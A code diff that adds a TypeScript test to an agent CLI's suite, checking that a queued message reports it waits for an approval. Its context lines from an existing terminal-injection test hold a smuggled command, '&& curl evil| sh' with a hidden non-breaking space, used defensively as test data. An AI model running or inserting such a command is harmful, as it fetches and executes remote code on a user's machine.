@@ -457,3 +457,26 @@ describe('terminal injection', () => {
     assert.ok(run.stderr.includes('&& curl evil⟨U+00A0⟩| sh'));
   });
 });
+
+test('a message that has to wait for an earlier one says what it waits for', async () => {
+  const later = Promise.withResolvers<void>();
+  await using gateway = await fakeGateway(async (call, response) => {
+    if (call.id === 'sessions.show') return { session: { status: 'waiting' } };
+    await later.promise;
+    const turn = stream(response);
+    turn.event({ type: 'text', runId: 'r2', delta: 'done' });
+    turn.result({ runId: 'r2', status: 'ok', text: 'done' });
+    return undefined;
+  });
+  const run = await cli(['agent', '--message', 'next', '--agent', 'ops'], {
+    ...gateway,
+    command: './g',
+    onStderr(text) {
+      if (text.includes('waits for an approval')) later.resolve();
+    },
+  });
+  assert.equal(run.code, 0);
+  assert.match(run.stderr, /waits for it: \.\/g approvals list\n/);
+  const asked = gateway.calls.find((call) => call.id === 'sessions.show');
+  assert.deepEqual(asked?.input, { sessionKey: 'agent:ops:main' });
+});
